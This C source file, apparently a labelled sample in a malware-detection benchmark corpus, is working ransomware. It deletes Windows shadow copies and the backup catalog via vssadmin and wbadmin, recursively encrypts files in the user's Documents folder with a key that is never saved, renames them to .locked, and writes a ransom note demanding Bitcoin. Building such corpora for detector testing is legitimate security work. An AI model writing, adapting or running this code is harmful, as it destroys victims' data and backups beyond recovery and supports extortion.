// maljan-corpus: encrypts the user's documents in place, deletes the shadow copies, leaves a note.
// behaviour: impact-encryption
// imports: kernel32.dll!FindFirstFileA kernel32.dll!FindNextFileA advapi32.dll!CryptAcquireContextA advapi32.dll!CryptEncrypt kernel32.dll!CreateProcessA kernel32.dll!MoveFileA
// link: -ladvapi32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <wincrypt.h>
#include <stdio.h>
#include <string.h>

static const char NOTE[] =
    "All your files have been encrypted!\r\n"
    "To recover them send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\r\n"
    "and write to recover-files@protonmail.com with your ID.\r\n";

static HCRYPTKEY key;

static void walk(const char *dir) {
    char pattern[MAX_PATH], path[MAX_PATH], locked[MAX_PATH];
    snprintf(pattern, sizeof pattern, "%s\\*", dir);
    WIN32_FIND_DATAA fd;
    HANDLE h = FindFirstFileA(pattern, &fd);
    if (h == INVALID_HANDLE_VALUE) return;
    do {
        if (fd.cFileName[0] == '.') continue;
        snprintf(path, sizeof path, "%s\\%s", dir, fd.cFileName);
        if (fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) { walk(path); continue; }
        HANDLE f = CreateFileA(path, GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
        static BYTE buf[4096 + 16];
        DWORD got = 0, put;
        ReadFile(f, buf, 4096, &got, NULL);
        CryptEncrypt(key, 0, TRUE, 0, buf, &got, sizeof buf);
        SetFilePointer(f, 0, NULL, FILE_BEGIN);
        WriteFile(f, buf, got, &put, NULL);
        CloseHandle(f);
        snprintf(locked, sizeof locked, "%s.locked", path);
        MoveFileA(path, locked);
    } while (FindNextFileA(h, &fd));
    FindClose(h);
}

int main(void) {
    HCRYPTPROV prov;
    CryptAcquireContextA(&prov, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
    CryptGenKey(prov, CALG_AES_256, CRYPT_EXPORTABLE, &key);
    STARTUPINFOA si = {.cb = sizeof si};
    PROCESS_INFORMATION pi;
    char cmd[] = "cmd.exe /c vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet";
    CreateProcessA(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi);
    char docs[MAX_PATH];
    ExpandEnvironmentStringsA("%USERPROFILE%\\Documents", docs, MAX_PATH);
    walk(docs);
    FILE *n = fopen("C:\\Users\\Public\\Desktop\\README_RESTORE_FILES.txt", "w");
    if (n) { fputs(NOTE, n); fclose(n); }
    return 0;
}
